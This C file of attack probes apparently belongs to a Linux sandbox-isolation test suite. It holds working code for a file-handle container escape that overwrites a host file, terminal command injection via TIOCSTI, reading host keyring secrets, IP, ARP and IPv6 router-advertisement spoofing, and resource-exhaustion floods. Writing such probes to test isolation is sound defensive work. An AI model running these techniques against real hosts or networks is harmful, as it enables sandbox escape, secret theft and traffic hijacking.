/*
 * Attack probes for test/linux/attacks.test.ts, compiled with the host's cc
 * at test time. Each probe is one of the review's attacks (isolation-2.md) as
 * the jail's root would run it; it prints one line "RESULT <probe> <verdict>
 * <detail>" where verdict is ALLOWED (the attack worked) or DENIED.
 *
 * Host-side helpers (run by the test on the host, not in a jail): handle,
 * addkey, delkey.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <linux/keyctl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/statfs.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static int report(const char *probe, int allowed, const char *detail) {
	printf("RESULT %s %s %s\n", probe, allowed ? "ALLOWED" : "DENIED", detail);
	fflush(stdout);
	return 0;
}

static int errno_report(const char *probe, long rc) {
	char buf[128];
	if (rc >= 0) return report(probe, 1, "ok");
	snprintf(buf, sizeof buf, "%s", strerror(errno));
	for (char *p = buf; *p; p++)
		if (*p == ' ') *p = '_';
	return report(probe, 0, buf);
}

static int hexval(char c) {
	if (c >= '0' && c <= '9') return c - '0';
	if (c >= 'a' && c <= 'f') return c - 'a' + 10;
	return -1;
}

int main(int argc, char **argv) {
	if (argc < 2) return 64;
	const char *p = argv[1];

	if (!strcmp(p, "handle") && argc == 3) { /* host: print the handle of a file */
		struct { struct file_handle fh; unsigned char b[128]; } h;
		int mnt;
		h.fh.handle_bytes = 128;
		if (name_to_handle_at(AT_FDCWD, argv[2], &h.fh, &mnt, 0) != 0) { perror("name_to_handle_at"); return 1; }
		printf("%d ", h.fh.handle_type);
		for (unsigned i = 0; i < h.fh.handle_bytes; i++) printf("%02x", h.fh.f_handle[i]);
		printf("\n");
		return 0;
	}
	if (!strcmp(p, "shocker") && argc == 4) { /* C1: open a host file by a guessed handle */
		struct { struct file_handle fh; unsigned char b[128]; } h;
		size_t n = strlen(argv[3]) / 2;
		h.fh.handle_type = atoi(argv[2]);
		h.fh.handle_bytes = n;
		for (size_t i = 0; i < n; i++) h.fh.f_handle[i] = hexval(argv[3][2 * i]) * 16 + hexval(argv[3][2 * i + 1]);
		int mfd = open("/", O_RDONLY | O_DIRECTORY);
		int fd = open_by_handle_at(mfd, &h.fh, O_RDWR);
		if (fd < 0) return errno_report(p, fd);
		char buf[256] = {0};
		ssize_t r = read(fd, buf, sizeof buf - 1);
		if (r > 0 && buf[r - 1] == '\n') buf[r - 1] = 0;
		lseek(fd, 0, SEEK_SET);
		if (write(fd, "OVERWRITTEN-BY-JAIL\n", 20) == 20) ftruncate(fd, 20);
		for (char *q = buf; *q; q++)
			if (*q == ' ') *q = '_';
		return report(p, 1, buf);
	}
	if (!strcmp(p, "addkey") && argc == 4) { /* host: a secret in root's user keyring */
		long id = syscall(SYS_add_key, "user", argv[2], argv[3], strlen(argv[3]), KEY_SPEC_USER_KEYRING);
		if (id < 0) { perror("add_key"); return 1; }
		printf("%ld\n", id);
		return 0;
	}
	if (!strcmp(p, "delkey") && argc == 3) { /* host: remove it again */
		long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", argv[2], 0);
		if (id >= 0) syscall(SYS_keyctl, KEYCTL_INVALIDATE, id);
		return 0;
	}
	if (!strcmp(p, "readkey") && argc == 3) { /* H3: read the host's key from inside */
		long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", argv[2], 0);
		if (id < 0) return errno_report(p, id);
		char buf[256] = {0};
		long n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
		if (n < 0) return errno_report(p, n);
		return report(p, 1, buf);
	}
	if (!strcmp(p, "plantkey")) { /* H3: plant a key in the shared uid-0 keyring */
		long id = syscall(SYS_add_key, "user", "qjail-test-planted", "x", 1, KEY_SPEC_USER_KEYRING);
		if (id >= 0) syscall(SYS_keyctl, KEYCTL_INVALIDATE, id);
		return errno_report(p, id);
	}
	if (!strcmp(p, "userns")) { /* M4 */
		pid_t c = fork();
		if (c == 0) _exit(unshare(CLONE_NEWUSER) == 0 ? 0 : errno);
		int st = 0;
		waitpid(c, &st, 0);
		errno = WEXITSTATUS(st);
		return errno_report(p, errno == 0 ? 0 : -1);
	}
	if (!strcmp(p, "io_uring")) {
		unsigned char params[120] = {0};
		long fd = syscall(425 /* io_uring_setup on x86_64 and arm64 */, 4, params);
		return errno_report(p, fd);
	}
	if (!strcmp(p, "perf")) {
		struct perf_event_attr a;
		memset(&a, 0, sizeof a);
		a.type = PERF_TYPE_SOFTWARE;
		a.size = sizeof a;
		a.config = PERF_COUNT_SW_TASK_CLOCK;
		a.exclude_kernel = 1;
		a.exclude_hv = 1;
		return errno_report(p, syscall(SYS_perf_event_open, &a, 0, -1, -1, 0));
	}
	if (!strcmp(p, "userfaultfd")) {
		return errno_report(p, syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */ | O_CLOEXEC));
	}
	if (!strcmp(p, "bpf")) {
		unsigned char attr[128] = {0};
		return errno_report(p, syscall(SYS_bpf, 0 /* MAP_CREATE */, attr, sizeof attr));
	}
	if (!strcmp(p, "name_to_handle")) {
		struct { struct file_handle fh; unsigned char b[128]; } h;
		int mnt;
		h.fh.handle_bytes = 128;
		return errno_report(p, name_to_handle_at(AT_FDCWD, "/etc/passwd", &h.fh, &mnt, 0));
	}
	if (!strcmp(p, "fd") && argc == 4) { /* H2: a descriptor of another process that leads out */
		char path[256];
		snprintf(path, sizeof path, "/proc/%s/fd/%s/%s", argv[2], argv[3], "host-canary.txt");
		int fd = open(path, O_RDONLY);
		if (fd < 0) return errno_report(p, fd);
		char buf[128] = {0};
		read(fd, buf, sizeof buf - 1);
		buf[strcspn(buf, "\n ")] = 0;
		return report(p, 1, buf);
	}
	if (!strcmp(p, "tty")) {
		/* H1: any terminal a jail process holds that is not of the jail's own devpts */
		struct stat own;
		if (stat("/dev/pts/ptmx", &own) != 0) return errno_report(p, -1);
		DIR *d = opendir("/proc");
		struct dirent *e;
		char found[256] = "none";
		while (d && (e = readdir(d))) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
			for (int fd = 0; fd < 3; fd++) {
				char path[64];
				struct stat st;
				snprintf(path, sizeof path, "/proc/%s/fd/%d", e->d_name, fd);
				if (stat(path, &st) != 0 || !S_ISCHR(st.st_mode)) continue;
				unsigned maj = major(st.st_rdev);
				int tty = maj == 136 || maj == 4 || maj == 5;
				if (tty && st.st_dev != own.st_dev && !(maj == 5 && minor(st.st_rdev) == 2)) {
					snprintf(found, sizeof found, "pid%s/fd%d->%u:%u", e->d_name, fd, maj, minor(st.st_rdev));
				}
			}
		}
		return report(p, strcmp(found, "none") != 0, found);
	}
	if (!strcmp(p, "tiocsti") && argc == 3) {
		/* H1: push a command into whatever terminal this process has */
		int done = 0;
		for (int fd = 0; fd < 3 && !done; fd++) {
			if (!isatty(fd)) continue;
			const char *s = argv[2];
			int ok = 1;
			for (; *s; s++)
				if (ioctl(fd, TIOCSTI, s) != 0) { ok = 0; break; }
			char nl = '\n';
			if (ok && ioctl(fd, TIOCSTI, &nl) == 0) done = 1;
		}
		return report(p, done, done ? "injected" : "no_terminal_accepted_it");
	}
	if (!strcmp(p, "caps")) { /* the effective capabilities of this process */
		FILE *f = fopen("/proc/self/status", "r");
		char line[256];
		while (f && fgets(line, sizeof line, f))
			if (!strncmp(line, "CapEff:", 7)) {
				unsigned long long v = strtoull(line + 8, 0, 16);
				line[strcspn(line, "\n")] = 0;
				return report(p, (v >> 21) & 1, line + 8);
			}
		return report(p, 0, "unknown");
	}
	if (!strcmp(p, "spoof4") && argc == 6) {
		/* H4: a UDP datagram with another jail's source address (raw socket, config -k) */
		int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
		if (s < 0) return errno_report(p, s);
		unsigned char pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + 64];
		memset(pkt, 0, sizeof pkt);
		const char *msg = argv[5];
		size_t mlen = strlen(msg) > 64 ? 64 : strlen(msg);
		struct iphdr *ip = (struct iphdr *)pkt;
		struct udphdr *udp = (struct udphdr *)(pkt + sizeof *ip);
		ip->version = 4;
		ip->ihl = 5;
		ip->ttl = 64;
		ip->protocol = IPPROTO_UDP;
		ip->tot_len = htons(sizeof *ip + sizeof *udp + mlen);
		inet_pton(AF_INET, argv[2], &ip->saddr);
		inet_pton(AF_INET, argv[3], &ip->daddr);
		udp->source = htons(5353);
		udp->dest = htons(atoi(argv[4]));
		udp->len = htons(sizeof *udp + mlen);
		memcpy(pkt + sizeof *ip + sizeof *udp, msg, mlen);
		struct sockaddr_in to = {.sin_family = AF_INET};
		to.sin_addr.s_addr = ip->daddr;
		long r = sendto(s, pkt, sizeof *ip + sizeof *udp + mlen, 0, (struct sockaddr *)&to, sizeof to);
		return errno_report(p, r);
	}
	if (!strcmp(p, "arpspoof") && argc == 3) {
		/* H4: ARP replies, broadcast, saying another jail's address is at this jail's MAC */
		struct if_nameindex *ifs = if_nameindex(), *i;
		int ifindex = 0;
		for (i = ifs; i && i->if_index; i++)
			if (strcmp(i->if_name, "lo")) { ifindex = i->if_index; break; }
		int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
		if (s < 0 || !ifindex) return errno_report(p, -1);
		struct ifreq ifr;
		memset(&ifr, 0, sizeof ifr);
		if_indextoname(ifindex, ifr.ifr_name);
		ioctl(s, SIOCGIFHWADDR, &ifr);
		unsigned char f[42];
		memset(f, 0xff, 6);
		memcpy(f + 6, ifr.ifr_hwaddr.sa_data, 6);
		f[12] = 0x08; f[13] = 0x06;                 /* ARP */
		f[14] = 0; f[15] = 1; f[16] = 0x08; f[17] = 0; f[18] = 6; f[19] = 4;
		f[20] = 0; f[21] = 2;                       /* reply */
		memcpy(f + 22, ifr.ifr_hwaddr.sa_data, 6);  /* sender MAC: ours */
		inet_pton(AF_INET, argv[2], f + 28);        /* sender IP: the victim's */
		memset(f + 32, 0xff, 6);
		inet_pton(AF_INET, argv[2], f + 38);
		struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};
		memset(to.sll_addr, 0xff, 6);
		long r = 0;
		for (int n = 0; n < 5 && r >= 0; n++) r = sendto(s, f, sizeof f, 0, (struct sockaddr *)&to, sizeof to);
		return errno_report(p, r);
	}
	if (!strcmp(p, "ra")) {
		/* H4: a router advertisement making this jail every neighbour's default router */
		struct if_nameindex *ifs = if_nameindex(), *i;
		int ifindex = 0;
		for (i = ifs; i && i->if_index; i++)
			if (strcmp(i->if_name, "lo")) { ifindex = i->if_index; break; }
		int s = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
		if (s < 0 || !ifindex) return errno_report(p, -1);
		int hops = 255;
		setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
		setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_IF, &ifindex, sizeof ifindex);
		unsigned char ra[16 + 32];
		memset(ra, 0, sizeof ra);
		ra[0] = 134;                 /* router advertisement */
		ra[4] = 64;                  /* hop limit */
		ra[6] = 0x07; ra[7] = 0x08;  /* router lifetime 1800 s */
		unsigned char *o = ra + 16;  /* prefix information: 2001:db8:66::/64, on-link, autonomous */
		o[0] = 3; o[1] = 4; o[2] = 64; o[3] = 0xc0;
		o[4] = o[5] = o[6] = o[7] = 0xff;
		o[8] = o[9] = o[10] = o[11] = 0xff;
		inet_pton(AF_INET6, "2001:db8:66::", o + 16);
		struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_scope_id = (uint32_t)ifindex};
		inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
		long r = 0;
		for (int n = 0; n < 3 && r >= 0; n++) r = sendto(s, ra, sizeof ra, 0, (struct sockaddr *)&to, sizeof to);
		return errno_report(p, r);
	}
	if (!strcmp(p, "udp") && argc == 5) { /* a genuine datagram from this jail's own address (control) */
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
		inet_pton(AF_INET, argv[2], &to.sin_addr);
		return errno_report(p, sendto(s, argv[4], strlen(argv[4]), 0, (struct sockaddr *)&to, sizeof to));
	}
	if (!strcmp(p, "connect") && argc == 4) { /* TCP connect with a 2 s limit */
		struct sockaddr_storage ss;
		memset(&ss, 0, sizeof ss);
		socklen_t len;
		int fam = strchr(argv[2], ':') ? AF_INET6 : AF_INET;
		if (fam == AF_INET) {
			struct sockaddr_in *a = (struct sockaddr_in *)&ss;
			a->sin_family = AF_INET;
			a->sin_port = htons(atoi(argv[3]));
			inet_pton(AF_INET, argv[2], &a->sin_addr);
			len = sizeof *a;
		} else {
			struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;
			a->sin6_family = AF_INET6;
			a->sin6_port = htons(atoi(argv[3]));
			inet_pton(AF_INET6, argv[2], &a->sin6_addr);
			len = sizeof *a;
		}
		int s = socket(fam, SOCK_STREAM, 0);
		struct timeval tv = {2, 0};
		setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
		return errno_report(p, connect(s, (struct sockaddr *)&ss, len));
	}
	if (!strcmp(p, "forks") && argc == 3) { /* M1: how many processes the jail can hold at once */
		int want = atoi(argv[2]), n = 0;
		pid_t *kids = calloc(want, sizeof *kids);
		for (; n < want; n++) {
			pid_t c = fork();
			if (c < 0) break;
			if (c == 0) { sleep(30); _exit(0); }
			kids[n] = c;
		}
		for (int i = 0; i < n; i++) kill(kids[i], SIGKILL);
		for (int i = 0; i < n; i++) waitpid(kids[i], 0, 0);
		char d[32];
		snprintf(d, sizeof d, "%d", n);
		return report(p, n >= want, d);
	}
	if (!strcmp(p, "alloc") && argc == 3) { /* M1: memory: touch N MiB (killed by the OOM killer when limited) */
		size_t mb = (size_t)atoi(argv[2]);
		unsigned char *m = mmap(0, mb << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (m == MAP_FAILED) return errno_report(p, -1);
		for (size_t i = 0; i < (mb << 20); i += 4096) m[i] = 1;
		return report(p, 1, argv[2]);
	}
	if (!strcmp(p, "fssize") && argc == 3) { /* M1: the size of a tmpfs */
		struct statfs st;
		if (statfs(argv[2], &st) != 0) return errno_report(p, -1);
		char d[32];
		snprintf(d, sizeof d, "%llu", (unsigned long long)st.f_blocks * (unsigned long long)st.f_bsize);
		return report(p, 1, d);
	}
	if (!strcmp(p, "nofile")) {
		struct rlimit rl;
		getrlimit(RLIMIT_NOFILE, &rl);
		char d[64];
		snprintf(d, sizeof d, "%llu", (unsigned long long)rl.rlim_max);
		return report(p, 1, d);
	}
	if (!strcmp(p, "flood") && argc == 4) { /* M1: write N MiB to a file (the init's console through /proc/1/fd/1) */
		int fd = open(argv[2], O_WRONLY);
		if (fd < 0) return errno_report(p, -1);
		char buf[65536];
		memset(buf, 'x', sizeof buf);
		long total = 0, want = atol(argv[3]) << 20;
		while (total < want) {
			ssize_t w = write(fd, buf, sizeof buf);
			if (w <= 0) break;
			total += w;
		}
		char d[32];
		snprintf(d, sizeof d, "%ld", total);
		return report(p, 1, d);
	}
	if (!strcmp(p, "listen") && argc == 4) { /* L1: a listener whose process name is chosen by the jail */
		char name[16] = {0};
		/* "\e" sequences in the argument become ESC */
		for (size_t i = 0, j = 0; argv[2][i] && j < 15; i++) {
			if (argv[2][i] == '^' ) name[j++] = 0x1b;
			else if (argv[2][i] == '~') name[j++] = 0x07;
			else name[j++] = argv[2][i];
		}
		if (fork() != 0) return report(p, 1, "started");
		setsid();
		prctl(PR_SET_NAME, name);
		int s = socket(AF_INET, SOCK_STREAM, 0);
		struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
		int one = 1;
		setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
		bind(s, (struct sockaddr *)&a, sizeof a);
		listen(s, 1);
		int null = open("/dev/null", O_RDWR);
		dup2(null, 0); dup2(null, 1); dup2(null, 2);
		sleep(120);
		_exit(0);
	}
	fprintf(stderr, "probe: unknown probe %s\n", p);
	return 64;
}
